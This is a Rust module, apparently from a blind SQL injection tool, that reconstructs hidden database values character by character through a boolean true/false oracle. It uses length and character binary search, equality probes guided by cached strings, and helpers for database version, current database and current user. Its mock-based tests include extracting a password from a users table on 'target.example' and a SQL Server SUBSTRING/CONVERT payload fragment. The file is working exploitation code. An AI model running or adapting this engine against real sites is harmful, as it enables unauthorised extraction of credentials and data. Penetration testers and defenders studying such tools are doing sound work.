//! Scalar extraction over the boolean oracle.
//!
//! Reconstructs the result of a single-row single-column subquery one
//! character at a time: binary-search the length, then for each position
//! try equality probes against predicted candidates before falling back to
//! a binary search over printable ASCII.

use crate::cache::CacheStore;
use crate::error::{Error, Result};
use crate::http::requester::Probe;
use crate::oracle::calibrator::CalibrationResult;
use crate::payloads::{dialect_for, version_prefixes, DatabaseKind, Dialect};
use crate::ui;

/// Default cap on extracted characters. Partial results are permitted.
pub const DEFAULT_MAX_LEN: usize = 70;

/// Default upper bound for the length binary search.
pub const DEFAULT_LENGTH_BOUND: usize = 1024;

const ASCII_LOW: u8 = 32;
const ASCII_HIGH: u8 = 126;

pub struct Extractor<'a, P: Probe> {
    probe: &'a mut P,
    calibration: &'a CalibrationResult,
    dialect: &'static dyn Dialect,
    kind: DatabaseKind,
    max_len: usize,
    length_bound: usize,
    cache: Option<(&'a CacheStore, String)>,
}

impl<'a, P: Probe> Extractor<'a, P> {
    pub fn new(
        probe: &'a mut P,
        calibration: &'a CalibrationResult,
        kind: DatabaseKind,
    ) -> Result<Self> {
        let dialect =
            dialect_for(kind).ok_or_else(|| Error::UnsupportedDatabase(kind.to_string()))?;
        Ok(Self {
            probe,
            calibration,
            dialect,
            kind,
            max_len: DEFAULT_MAX_LEN,
            length_bound: DEFAULT_LENGTH_BOUND,
            cache: None,
        })
    }

    /// Cap extracted strings at `max_len` characters. `0` means no cap.
    pub fn set_max_len(&mut self, max_len: usize) {
        self.max_len = max_len;
    }

    /// Upper bound for the length binary search.
    pub fn set_length_bound(&mut self, bound: usize) {
        self.length_bound = bound;
    }

    /// Use the host cache for prefix prediction and persist every completed
    /// extraction as a known string.
    pub fn set_cache(&mut self, store: &'a CacheStore, host: &str) {
        self.cache = Some((store, host.to_string()));
    }

    /// Extract the textual result of `query` through the oracle.
    ///
    /// On a probe failure mid-string the characters recovered so far are
    /// returned inside [`Error::Partial`].
    pub async fn extract_string(&mut self, query: &str) -> Result<String> {
        let mut length = self.find_length(query).await?;
        if length == 0 {
            return Ok(String::new());
        }

        if self.max_len > 0 && length > self.max_len {
            tracing::debug!("string length {length} exceeds cap {}, capping", self.max_len);
            length = self.max_len;
        }

        // Candidate pool: built-in version prefixes plus previously
        // extracted strings of exactly this length.
        let mut pool: Vec<String> = version_prefixes(self.kind)
            .iter()
            .map(|p| p.to_string())
            .collect();
        if let Some((store, host)) = &self.cache {
            pool.extend(
                store
                    .known_strings(host)
                    .into_iter()
                    .filter(|s| s.len() == length),
            );
        }

        let mut result = String::with_capacity(length);
        for pos in 1..=length {
            let ch = match self.find_char_guided(query, pos, &result, &pool).await {
                Ok(c) => c,
                Err(e) => {
                    ui::progress_done();
                    return Err(e.with_partial(result));
                }
            };
            result.push(ch as char);
            ui::progress(format!("Extracting: {result} [{pos}/{length}]"));
        }
        ui::progress_done();

        if let Some((store, host)) = &self.cache {
            if let Err(e) = store.add_known_string(host, &result) {
                tracing::debug!("could not save known string: {e}");
            }
        }

        Ok(result)
    }

    /// Length of the query result, or 0 when the result is empty or NULL.
    pub async fn find_length(&mut self, query: &str) -> Result<usize> {
        let payload = self.dialect.length_probe(query, 0);
        let resp = self.probe.send(&payload).await?;
        if !self.calibration.is_true(&resp.fingerprint) {
            return Ok(0);
        }

        let mut low = 0usize;
        let mut high = self.length_bound;
        while low < high {
            let mid = (low + high + 1) / 2;
            let payload = self.dialect.length_probe(query, mid as i64 - 1);
            let resp = self.probe.send(&payload).await?;
            if self.calibration.is_true(&resp.fingerprint) {
                low = mid;
            } else {
                high = mid - 1;
            }
        }
        Ok(low)
    }

    /// Binary search for the character at `pos` over printable ASCII.
    async fn find_char(&mut self, query: &str, pos: usize) -> Result<u8> {
        let mut low = ASCII_LOW;
        let mut high = ASCII_HIGH;
        while low < high {
            let mid = (low as u16 + high as u16 + 1) / 2;
            let payload = self.dialect.char_probe(query, pos, mid as u8 - 1);
            let resp = self.probe.send(&payload).await?;
            if self.calibration.is_true(&resp.fingerprint) {
                low = mid as u8;
            } else {
                high = mid as u8 - 1;
            }
        }
        Ok(low)
    }

    /// Try equality probes for the candidate characters predicted by the
    /// pool, then fall back to binary search.
    async fn find_char_guided(
        &mut self,
        query: &str,
        pos: usize,
        prefix: &str,
        pool: &[String],
    ) -> Result<u8> {
        let candidates: Vec<&String> = pool
            .iter()
            .filter(|s| s.len() >= pos && s.starts_with(prefix))
            .collect();

        for code in unique_chars_at(&candidates, pos) {
            let payload = self.dialect.equality_probe(query, pos, code);
            let resp = self.probe.send(&payload).await?;
            if self.calibration.is_true(&resp.fingerprint) {
                return Ok(code);
            }
        }

        self.find_char(query, pos).await
    }

    /// Extract the engine version, trying each version query and keeping the
    /// longest result recovered across partial failures.
    pub async fn extract_version(&mut self) -> Result<String> {
        let mut best = String::new();

        for query in self.dialect.version_queries() {
            tracing::debug!("trying version query: {query}");
            match self.extract_string(query).await {
                Ok(version) => {
                    if version.len() > best.len() {
                        best = version.clone();
                    }
                    if !version.is_empty() {
                        return Ok(version);
                    }
                }
                Err(e) => {
                    if let Some(partial) = e.partial_value() {
                        if partial.len() > best.len() {
                            best = partial.to_string();
                        }
                    }
                    tracing::debug!("version query failed: {e}");
                }
            }
        }

        if best.is_empty() {
            Err(Error::VersionUnavailable)
        } else {
            tracing::debug!("returning best partial version");
            Ok(best)
        }
    }

    /// Name of the database the injected query runs in.
    pub async fn current_database(&mut self) -> Result<String> {
        let query = self.dialect.current_database_query();
        self.extract_string(query).await
    }

    /// User the injected query runs as.
    pub async fn current_user(&mut self) -> Result<String> {
        let query = self.dialect.current_user_query();
        self.extract_string(query).await
    }
}

/// Distinct bytes at 1-based `pos` across the candidate strings, in first
/// seen order.
fn unique_chars_at(candidates: &[&String], pos: usize) -> Vec<u8> {
    let mut seen = [false; 256];
    let mut out = Vec::new();
    for s in candidates {
        if let Some(&c) = s.as_bytes().get(pos - 1) {
            if !seen[c as usize] && (ASCII_LOW..=ASCII_HIGH).contains(&c) {
                seen[c as usize] = true;
                out.push(c);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testutil::{calibrate, MockProbe};

    #[tokio::test]
    async fn extracts_short_literal() {
        let mut probe = MockProbe::mysql().with_value("SELECT 'hi'", "hi");
        let cal = calibrate(&mut probe).await;

        let mut ex = Extractor::new(&mut probe, &cal, DatabaseKind::MySQL).unwrap();
        let value = ex.extract_string("SELECT 'hi'").await.unwrap();
        assert_eq!(value, "hi");
    }

    #[tokio::test]
    async fn empty_result_sends_no_char_probes() {
        let mut probe = MockProbe::mysql();
        let cal = calibrate(&mut probe).await;
        let before = probe.request_count();

        let mut ex = Extractor::new(&mut probe, &cal, DatabaseKind::MySQL).unwrap();
        let value = ex.extract_string("SELECT missing").await.unwrap();
        assert_eq!(value, "");
        // Exactly one probe: the length > 0 check.
        assert_eq!(probe.request_count() - before, 1);
    }

    #[tokio::test]
    async fn find_length_converges() {
        let mut probe = MockProbe::mysql().with_value("SELECT x", "abcdefghij");
        let cal = calibrate(&mut probe).await;

        let mut ex = Extractor::new(&mut probe, &cal, DatabaseKind::MySQL).unwrap();
        assert_eq!(ex.find_length("SELECT x").await.unwrap(), 10);
    }

    #[tokio::test]
    async fn max_len_caps_extraction() {
        let mut probe = MockProbe::mysql().with_value("SELECT x", "abcdefghij");
        let cal = calibrate(&mut probe).await;

        let mut ex = Extractor::new(&mut probe, &cal, DatabaseKind::MySQL).unwrap();
        ex.set_max_len(4);
        assert_eq!(ex.extract_string("SELECT x").await.unwrap(), "abcd");

        // Zero lifts the cap entirely.
        ex.set_max_len(0);
        assert_eq!(ex.extract_string("SELECT x").await.unwrap(), "abcdefghij");
    }

    #[tokio::test]
    async fn version_prefix_hit_needs_few_probes() {
        let mut probe = MockProbe::mysql().with_value("SELECT @@version", "8.0.32");
        let cal = calibrate(&mut probe).await;

        let before = probe.request_count();
        let mut ex = Extractor::new(&mut probe, &cal, DatabaseKind::MySQL).unwrap();
        let version = ex.extract_version().await.unwrap();
        assert_eq!(version, "8.0.32");

        // Length 6 needs ~11 probes; with the 8.0. prefix guiding the first
        // four characters, the total stays far below pure binary search
        // (6 chars x ~7 probes each).
        let spent = probe.request_count() - before;
        assert!(spent < 40, "spent {spent} probes");
    }

    #[tokio::test]
    async fn mssql_extraction_uses_convert_wrap() {
        let mut probe =
            MockProbe::mssql().with_value("SELECT @@version", "Microsoft SQL Server 2019");
        let cal = calibrate(&mut probe).await;

        let mut ex = Extractor::new(&mut probe, &cal, DatabaseKind::MSSQL).unwrap();
        ex.set_max_len(1);
        let value = ex.extract_string("SELECT @@version").await.unwrap();
        assert_eq!(value, "M");
        assert!(probe
            .sent()
            .iter()
            .any(|c| c.starts_with("ASCII(SUBSTRING(CONVERT(VARCHAR(8000),(SELECT @@version)),1,1))")));
    }

    #[tokio::test]
    async fn known_string_prediction_reduces_probes() {
        use crate::testutil::temp_cache;

        let query = "SELECT password FROM users LIMIT 1 OFFSET 0";

        // First run, cold cache.
        let (store, _guard) = temp_cache("extract-known");
        let mut probe = MockProbe::mysql().with_value(query, "hunter2");
        let cal = calibrate(&mut probe).await;
        let before = probe.request_count();
        let mut ex = Extractor::new(&mut probe, &cal, DatabaseKind::MySQL).unwrap();
        ex.set_cache(&store, "target.example");
        assert_eq!(ex.extract_string(query).await.unwrap(), "hunter2");
        let cold = probe.request_count() - before;
        assert_eq!(store.known_strings("target.example"), vec!["hunter2"]);

        // Second run, the cached string predicts every character.
        let mut probe = MockProbe::mysql().with_value(query, "hunter2");
        let cal = calibrate(&mut probe).await;
        let before = probe.request_count();
        let mut ex = Extractor::new(&mut probe, &cal, DatabaseKind::MySQL).unwrap();
        ex.set_cache(&store, "target.example");
        assert_eq!(ex.extract_string(query).await.unwrap(), "hunter2");
        let warm = probe.request_count() - before;

        assert!(warm < cold, "warm={warm} cold={cold}");
    }

    #[tokio::test]
    async fn probe_failure_returns_partial() {
        let mut probe = MockProbe::mysql().with_value("SELECT x", "abcdef");
        let cal = calibrate(&mut probe).await;

        // Enough budget for length discovery and the first characters, then
        // the transport dies.
        probe.fail_after(probe.request_count() + 30);

        let mut ex = Extractor::new(&mut probe, &cal, DatabaseKind::MySQL).unwrap();
        let err = ex.extract_string("SELECT x").await.unwrap_err();
        let partial = err.partial_value().expect("expected a partial value");
        assert!(!partial.is_empty());
        assert!("abcdef".starts_with(partial));
    }

    #[tokio::test]
    async fn version_loop_keeps_longest_partial() {
        let mut probe = MockProbe::mysql().with_value("SELECT @@version", "8.0.32");
        let cal = calibrate(&mut probe).await;

        // First version query gets far enough to recover a prefix, then
        // everything fails, including the fallback queries.
        probe.fail_after(probe.request_count() + 16);

        let mut ex = Extractor::new(&mut probe, &cal, DatabaseKind::MySQL).unwrap();
        let version = ex.extract_version().await.unwrap();
        assert!(version.starts_with("8."), "got {version:?}");
    }

    #[tokio::test]
    async fn unknown_kind_is_rejected_at_construction() {
        let mut probe = MockProbe::mysql();
        let cal = calibrate(&mut probe).await;
        assert!(matches!(
            Extractor::new(&mut probe, &cal, DatabaseKind::Unknown),
            Err(Error::UnsupportedDatabase(_))
        ));
    }
}
